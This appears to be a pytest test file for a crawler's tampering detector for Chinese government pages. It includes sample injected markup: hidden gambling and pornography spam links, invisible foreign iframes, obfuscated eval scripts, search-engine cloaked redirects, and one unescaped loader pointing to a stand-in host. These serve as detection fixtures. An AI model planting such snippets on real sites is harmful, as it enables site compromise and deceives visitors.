"""Signs of tampering: what intruders leave, and what sound pages have that looks alike."""

# ruff: noqa: E501  # a row of markup reads best whole

import os
import random
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crawler.extract.sites.spam import advertised, advertised_in_title
from crawler.extract.sites.tampering import read_signs
from crawler.markup import open_source
from crawler.model.tampering import Sign, SignKind, Strength

SHARED = Path(os.environ.get("MINGJIAN_PORTALS", Path(__file__).resolve().parents[2].parent / "shared/portals")).parent
URL = "http://www.zean.gov.cn/zwgk/1.html"
TEXT = "<p>因管道检修，定于2021年7月8日停水，请相互转告，做好储水准备，敬请谅解。</p>"


def page(body: str = "", *, head: str = "", title: str = "关于停水的公告_泽安市人民政府") -> bytes:
    return f"<html><head><title>{title}</title>{head}</head><body><h1>关于停水的公告</h1>{TEXT}{body}</body></html>".encode()


def signs(body: bytes, url: str = URL, hosts: tuple[str, ...] = ()) -> tuple[Sign, ...]:
    return read_signs(open_source(body, url=url), hosts=hosts)


def links(*words: str, host: str = "x{0}.example.com") -> str:
    return "".join(f'<a href="http://{host.format(n)}/">{word}</a>' for n, word in enumerate(words))


NEUTRAL = ("新闻网", "招聘网", "地图", "天气", "旅游", "房产", "汽车", "交通", "银行")


@pytest.mark.parametrize(
    ("body", "kind", "strength"),
    [
        (f"<div style='display:none'>{links('亚博体育', '真人百家乐')}</div>", "hidden-words", "strong"),
        (f"<div style='position:absolute;left:-9999px'>{links('澳门新葡京')}</div>", "hidden-words", "strong"),
        (f"<div style='position:absolute; top:-5000px;'>{links(*NEUTRAL)}</div>", "hidden-links", "moderate"),
        (f"<div style='position:absolute; top:-5000px;'>{links(*NEUTRAL[:3], host='a{0}.b{0}.top')}</div>", "hidden-links", "strong"),
        (f"<div style='text-indent:-9999px'>{links(*NEUTRAL[:3])}</div>", "hidden-links", "moderate"),
        (f"<div style='height:0;overflow:hidden'>{links(*NEUTRAL[:3])}</div>", "hidden-links", "moderate"),
        (f"<div style='width:1px;height:1px;overflow:hidden'>{links(*NEUTRAL[:3])}</div>", "hidden-links", "moderate"),
        (f"<font style='font-size:0px'>{links(*NEUTRAL[:3])}</font>", "hidden-links", "moderate"),
        (f"<p style='color:#fff;background:#FFF'>{links(*NEUTRAL[:3])}</p>", "hidden-links", "moderate"),
        (f"<marquee height=1 width=5 scrollamount=3000>{links(*NEUTRAL[:3])}</marquee>", "hidden-links", "moderate"),
        (f"<script>document.write('<div style=\"display:none\">');</script>{links(*NEUTRAL[:3])}<script>document.write('</div>');</script>", "hidden-links", "moderate"),
        (f"<style>.zz1{{position:absolute;left:-2000px}}</style><div class='a zz1'>{links(*NEUTRAL[:3])}</div>", "hidden-links", "moderate"),
        (f"<div id='q9'>{links('彩票', '六合彩开奖')}</div><script>document.getElementById('q9').style.display='none'</script>", "hidden-words", "strong"),
        (f"<script>document.write('<d'+'iv st'+'yle=\"po'+'sition:a'+'bsolute;l'+'eft:'+'-'+'10'+'000p'+'x;'+'\">')</script>{links(*NEUTRAL[:3])}<script>document.write('<'+'/d'+'iv>');</script>", "hidden-links", "moderate"),
        (f"<div style='display:none'>{links(*NEUTRAL[:4])}</div>", "hidden-links", "weak"),
        (f"<p style='font-size:0'>{links(*NEUTRAL[:3])}</p>", "hidden-links", "moderate"),
        ("<iframe src='http://a.3322x.top/m.htm' width=0 height=0></iframe>", "foreign-script", "moderate"),
        ("<iframe src='http://203.0.113.7/m.htm' style='display:none'></iframe>", "foreign-script", "moderate"),
        ("<iframe src='http://count.example.com/' width='1' height='1'></iframe>", "foreign-script", "weak"),
        ("<script>eval(function(p,a,c,k,e,d){return p}('0.1(2)',3,3,'document|write|script|http|top|js'.split('|')))</script>", "obfuscated-script", "moderate"),
        ("<script>eval(function(p,a,c,k,e,d){return p}('0',1,1,'slider|createElement|style'.split('|')));document.createElement('i')</script>", "obfuscated-script", "weak"),
        (links("bet365备用网址"), "spam-link", "strong"),
        ("<p>国产精品久久、亚洲无码、av在线尽在本站</p>", "spam-in-text", "strong"),
        ("<p>万博体育官方入口</p>", "spam-in-text", "moderate"),
        ("<listing></listing>12<xmp></xmp>", "odd-tags", "moderate"),
        ("1<nobr></nobr>2<nobr></nobr>3", "odd-tags", "moderate"),
        ("".join(f'<{tag} id="n7j9h"></{tag}>' for tag in ("sub", "listing", "address", "mark", "form", "nobr", "menuitem")), "odd-tags", "strong"),
        ("<script src='http://abc.jump.top/x.js'></script>", "foreign-script", "moderate"),
        ("<script src='//203.0.113.7/x.js'></script>", "foreign-script", "weak"),
        ("<script>window['\\x64\\x6f\\x63']['\\x77'];document.write(a)</script>", "obfuscated-script", "moderate"),
        ("<script>document.write(unescape('%3Cscript src=\"http://evil.top/a.js\"%3E'))</script>", "obfuscated-script", "moderate"),
        ("<script>eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|')))</script>", "obfuscated-script", "weak"),
        ("<script>if(/baidu|sogou/.test(document.referrer)){location.href='http://x.top'}</script>", "cloaked-redirect", "strong"),
        ("<script>if(navigator.userAgent.toLowerCase().indexOf('baidu')==-1){document.title='关于停水的公告'}</script>", "cloaked-redirect", "strong"),
        ("<script>if(/Baiduspider/i.test(navigator.userAgent)){document.write('x')}</script>", "cloaked-redirect", "moderate"),
    ],
)  # fmt: skip
def test_sign(body: str, kind: str, strength: str) -> None:
    found = signs(page(body))
    assert (kind, strength) in {(each.kind.value, each.strength.value) for each in found}, found
    assert all(each.reason and each.where and len(each.quote) <= 200 for each in found)


@pytest.mark.parametrize(
    ("head", "title", "kind", "strength"),
    [
        ("", "澳门新葡京官网-关于停水的公告_泽安市人民政府", "spam-in-title", "strong"),
        ("", "亚博体育app下载_泽安市公安局", "spam-in-title", "strong"),
        ("", "百家乐 时时彩", "spam-in-title", "moderate"),
        ("", "百家乐 时时彩 老虎机", "spam-in-title", "strong"),
        ("", "百 家 乐 官 网", "spam-in-title", "strong"),
        ("", "老虎机", "spam-in-title", "weak"),
        ("", "爱游戏(ayx)体育官方网站-泽安市人民政府", "spam-in-title", "strong"),
        ("", "B体育app登录入口(中国)官方网站", "spam-in-title", "strong"),
        ("", "人人超碰_熟女乱伦_泽安市", "spam-in-title", "strong"),
        ("", "一男子寻代孕公司被坑百万", "spam-in-title", "weak"),
        ("", "开元ky888棋牌官网版_泽安县人民政府", "spam-in-title", "strong"),
        ("", "南宫28官方网站-ng28娱乐", "spam-in-title", "strong"),
        ("", "代孕公司 黑户贷款 刻章办证", "spam-in-title", "strong"),
        ("", "&#28595;&#38376;&#26032;&#33889;&#20140;_泽安市", "encoded-title", "moderate"),
        ('<meta name="keywords" content="六合彩开奖,一肖一码">', "公告", "spam-in-tags", "strong"),
        ('<meta name="description" content="久久精品在线观看">', "公告", "spam-in-tags", "strong"),
        ('<meta http-equiv="refresh" content="0;url=http://x.top/">', "公告", "cloaked-redirect", "moderate"),
    ],
)
def test_sign_in_the_head(head: str, title: str, kind: str, strength: str) -> None:
    found = signs(page(head=head, title=title))
    assert (kind, strength) in {(each.kind.value, each.strength.value) for each in found}, found


SOUND = {
    "gambling crime": ("市公安局打击网络赌博 捣毁六合彩窝点", "<p>警方捣毁一个利用百家乐、时时彩、北京赛车pk10开设赌场的犯罪团伙，抓获嫌疑人12名。</p>"),
    "warning": ("防范网络赌博提醒", "<p>澳门新葡京、亚博体育等均为境外赌博网站，请广大市民谨防上当。</p><p>百家乐、老虎机都是骗局。</p>"),
    "lottery": ("体育彩票公益金使用情况公告", "<p>我市体育彩票、福利彩票销售稳步增长，公益金主要用于全民健身。</p>"),
    "mahjong": ("关于整治麻将馆扰民的通告", "<p>社区举办麻将比赛和棋牌活动，抵制赌博。</p>"),
    "anti-pornography": ("扫黄打非工作总结", "<p>全年查处色情网站3个，收缴黄色书刊，清理成人视频、裸聊等有害信息。</p>"),
    "drugs": ("市场监管局查处非法添加伟哥成分食品案", "<p>查获壮阳药、催情药一批，依法予以处罚。</p>"),
    "look-alikes": ("国产精品牌展销会开幕", "<p>政务公开要久久为功，国产精品牌走进社区，老旧小区外挂电梯，太阳城镇政府，急性药物反应监测，无码商品管理，Java在线培训。</p>"),
    "culture": ("关于娱乐场所管理的通知", "<p>游艺娱乐场所、棋牌室、歌舞厅应当依法取得许可。</p>"),
    "exhibition in Macao": ("澳门威尼斯人酒店招商推介会举行", "<p>推介会在澳门金沙会展中心举行，澳门彩车亮相，掌声久久热烈。</p>"),
    "site groups": ("政府网站站群系统建设方案", "<p>集约化站群系统上线，放射性药品、精神药品目录公布。</p>"),
    "party discipline": ("公款赴澳门赌场豪赌 一干部落马", "<p>其沉迷澳门赌场，挪用公款。</p>"),
    "betting station": ("关于新增体育投注站的公示", "<p>拟新增体育彩票投注站三处。</p>"),
    "friend links to news": ("公告", "<div style='height:0;overflow:hidden'><a href='http://www.people.com.cn/'>人民网</a><a href='http://www.xinhuanet.com/'>新华网</a></div>"),
    "invoices": ("税务局关于代开发票的通告", "<p>纳税人可以到办税服务厅代开发票。</p>"),
    "surrogacy": ("卫健局严厉打击代孕行为", "<p>禁止代孕，举报代孕公司线索。</p>"),
    "audio and video": ("会议室AV设备采购公告", "<p>采购音视频(AV)设备一套，AV在线会议系统，无码率限制。</p>"),
    "invoices by telephone": ("如何代开发票", "<p>纳税人可通过电子税务局办理，也可以电话预约代开各类发票。</p>"),
    "theses": ("论文代写服务不可信", "<p>教育部门提醒考生，论文代写属学术不端。</p>"),
    "a hacked office": ("关于某单位网站被植入暗链的通报", "<p>经查，该网站被植入澳门赌场、私服等暗链，存在蜘蛛池、泛目录等。</p>"),
    "Sun City": ("太阳城社区卫生服务中心搬迁公告", "<p>太阳城社区、金沙社区居民就诊请到新址。</p>"),
    "fake medicine": ("药品监督管理局关于假药“伟哥”案", "<p>查获印度伟哥假药3000盒。</p>"),
    "loans": ("关于创业担保贷款贴息的公告", "<p>可申请最高20万元的创业担保贷款，财政给予贴息，无需抵押。</p>"),
    "fraud": ("反诈提醒：警惕网络贷款、刷单", "<p>凡是声称黑户贷款、信用卡套现、花呗套现的都是诈骗。让你下载爱游戏app、B体育app的都是赌博。</p>"),
    "a title for sharing and a phone's Baidu": ("公告", "<script>document.title=document.title||'公告';var r=document.referrer;if(r){seen(r)};if(/baidu/i.test(navigator.userAgent)&&/mobile/i.test(navigator.userAgent)){document.write('<meta name=applicable-device content=mobile>')}</script>"),
    "from a search engine to the site for phones": ("公告", "<script>if(document.referrer.indexOf('baidu')>0&&/iphone/.test(navigator.userAgent)){location.href='http://m.zean.gov.cn/'}else{location.replace('/m/')}</script>"),
    "gaps closed": ("公告", "<ul style='font-size:0'>" + "".join(f"<li style='font-size:14px'><a href='http://x{n}.example.com/'>志愿者{n}</a></li>" for n in range(4)) + "</ul>"),
    "gaps closed by classes": ("公告", "<div style='font-size:0'>" + "".join(f"<div class='it'><a href='http://x{n}.example.com/'>志愿者{n}</a></div>" for n in range(4)) + "</div>"),
    "frames of its own": ("公告", "<iframe src='/count.jsp' width=0 height=0></iframe><iframe src='http://tj.zean.gov.cn/c.htm' style='display:none'></iframe><iframe src='http://i.tianqi.com/index.php' width=200 height=25></iframe>"),
    "collapsed links to party sites": ("公告", "<div style='height:0;overflow:hidden'><a href='http://www.12371.cn/'>共产党员网</a><a href='http://www.xuexi.cn/'>学习强国</a></div>"),
    "friend links": ("公告", f"<div style='display:none'>{links(*NEUTRAL[:2])}</div><ul class='hide' style='display:none'><li><a href='http://www.qinghe.gov.cn/'>青河县</a></li></ul>"),
    "own menu off screen": ("公告", "<div style='position:absolute;left:-9999px'><a href='/zwgk/'>政务公开</a><a href='http://fgj.zean.gov.cn/'>发改局</a></div>"),
    "logo by text-indent": ("公告", "<h2 style='text-indent:-9999px'>泽安市人民政府</h2>"),
    "clearing": ("公告", "<div style='height:0;overflow:hidden;clear:both'></div><div style='font-size:0'><img src=a.png></div>"),
    "counters": ("公告", "<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/1.js'%3E%3C/script%3E\"))</script><script src='https://hm.baidu.com/hm.js?1'></script>"),
    "mobile version": ("公告", "<script>if(/iphone|android/i.test(navigator.userAgent)){location.href='http://m.zean.gov.cn/'}</script>"),
    "WeChat and Baidu browsers": ("公告", "<script>var w=/MicroMessenger|baiduboxapp/i.test(navigator.userAgent);if(w){location.href='/m/'}</script>"),
    "title for sharing": ("公告", "<script>var t=document.title;if(document.title==''){share(document.referrer)}</script>"),
    "Word tags": ("公告", "<p><nobr>第一条</nobr> H<sub>2</sub>O 10<sup>3</sup> <small>注</small></p>"),
    "repeated id": ("公告", "".join(f"<li id='menu1'>{n}</li>" for n in range(30))),
    "doc.gov host": ("公告", links("国务院", host="www.gov.cn")),
}  # fmt: skip


@pytest.mark.parametrize("case", SOUND)
def test_a_sound_page_is_not_accused(case: str) -> None:
    title, body = SOUND[case]
    assert signs(page(body, title=f"{title}_泽安市人民政府")) == ()


@pytest.mark.parametrize(
    ("head", "title", "url", "strength"),
    [
        ('<meta name="SiteDomain" content="www.zean.gov.cn">', "公告", "http://www.zean-news.com/a", "strong"),
        ('<meta name="SiteDomain" content="www.other.gov.cn">', "公告", "http://www.zean-news.com/a", "moderate"),
        ('<meta name="SiteName" content="泽安市人民政府">', "公告", "http://203.0.113.7/a", "moderate"),
        ("", "关于停水的公告_泽安市人民政府", "http://www.zean-news.com/a", "weak"),
        ('<meta name="SiteDomain" content="www.zean.gov.cn">', "公告", "http://zean.gov.cn/a", None),
        ('<meta name="SiteDomain" content="www.zean.gov.cn">', "公告", "http://www.zean.gov.cn:8080/a", None),
        ('<meta name="SiteName" content="青河县人民政府">', "公告", "http://www.qinghe.gov.cn/a", None),
        ("", "天气预报", "http://www.weather.example/a", None),
    ],
)
def test_mirror(head: str, title: str, url: str, strength: str | None) -> None:
    found = signs(page(head=head, title=title), url, ("www.zean.gov.cn:8080", "zean.gov.cn"))
    assert [each.strength.value for each in found if each.kind is SignKind.MIRROR] == ([strength] if strength else [])


def test_without_a_roster_no_host_is_foreign() -> None:
    assert signs(page(head='<meta name="SiteName" content="泽安市人民政府">'), "http://203.0.113.7/") == ()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("亚 博 体 育", {"亚博体育"}),
        ("ＢＥＴ３６５", {"bet365"}),
        ("abet3650", set()),
        ("涉嫌开设bet365网站", set()),
        ("bet365" + "停水公告" * 30 + "打击", {"bet365"}),
    ],
)
def test_words(text: str, words: set[str]) -> None:
    assert {hit.word for hit in advertised(text)} == words


def test_an_authority_in_the_title_excuses_nothing() -> None:
    assert advertised_in_title("万博体育_泽安市公安局")
    assert not advertised_in_title("万博体育涉案_泽安市公安局")


def _real() -> list[Path]:
    folder = SHARED / "portals"
    return sorted(path for path in folder.iterdir() if path.suffix not in {".json", ".md"}) if folder.is_dir() else []


@pytest.mark.skipif(not _real(), reason="the folder of real pages is not here")
@pytest.mark.parametrize("path", _real(), ids=lambda path: path.name)
def test_no_real_portal_is_accused(path: Path) -> None:
    found = signs(path.read_bytes(), "http://www.zean.gov.cn/")
    assert [each for each in found if each.strength is Strength.STRONG] == []


@pytest.mark.skipif(not (SHARED / "plans/zhongshan-2021.txt").exists(), reason="the mirror is not here")
def test_the_mirror_of_a_plan_is_known() -> None:
    found = signs((SHARED / "plans/zhongshan-2021.txt").read_bytes(), "http://mirror.example/")
    assert [(each.kind, each.strength) for each in found] == [(SignKind.ODD_TAGS, Strength.STRONG)]


PAGE = page(
    f"<div style='left:-9999px'>{links('亚博体育')}</div><script>document.referrer;eval(1)</script><listing id='a1b2c'>"
)
PIECES = [
    b"<div style='display:none'>",
    b"</div>",
    b"<script>",
    b"style='left:-999999999px'",
    b"<title>&#28595;",
    b"<a href='http://[x'>",
    b"\xff\xfe",
    b"\x00",
    "澳门新葡京".encode(),
    b"<marquee height=1>",
    b"<style>.a{left:-999px}",
]


@settings(max_examples=120, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(PAGE)), st.sampled_from(PIECES), st.integers(0, 40)), max_size=12))
def test_mutated_pages(edits: list[tuple[int, bytes, int]]) -> None:
    body = PAGE
    for place, piece, cut in edits:
        body = body[:place] + piece + body[place + cut :]
    signs(body, hosts=("www.zean.gov.cn",))


@settings(max_examples=80, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes(body: bytes) -> None:
    signs(body, hosts=("www.zean.gov.cn",))


# Each is made by the test that reads it: every worker imports this file.
HOSTILE: dict[str, Callable[[], bytes]] = {
    "hidden blocks": lambda: b"<div style='display:none'><a href='http://x.com/'>a</a></div>" * 40_000,
    "nested hidden": lambda: b"<div style='left:-999px'>" * 100_000,
    "style sheet": lambda: b"<style>" + b".a," * 800_000 + b"{display:none}</style>",
    "open rules": lambda: b"<style>" + b"{" * 2_000_000,
    "ids": lambda: b"".join(b"<sub id='a%05d'></sub>" % n for n in range(90_000)),
    "hex": lambda: b"<script>" + b"\\x41" * 500_000,
    "referrers": lambda: b"<script>" + b"document.referrer;" * 100_000,
    "writes": lambda: b"<script>" + b"document.write('" * 120_000,
    "written": lambda: b"<script>document.write('<div style=display:none>')</script><b>" * 20_000,
    "words": lambda: "百家乐 时时彩 亚博体育 ".encode() * 60_000,
    "titles": lambda: b"<title>" + b"&#28595;" * 250_000,
    "digits": lambda: b"1<b>" * 500_000,
    "noise": lambda: "".join(random.Random(7).choices("<div style='left:-9px'>澳门新葡京&#; \"", k=700_000)).encode(),  # noqa: S311  # noise, no secret
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_large_hostile_pages_end(case: str) -> None:
    source = open_source(HOSTILE[case](), url=URL)
    _ = source.flow
    started = time.process_time()
    read_signs(source)
    assert time.process_time() - started < 5
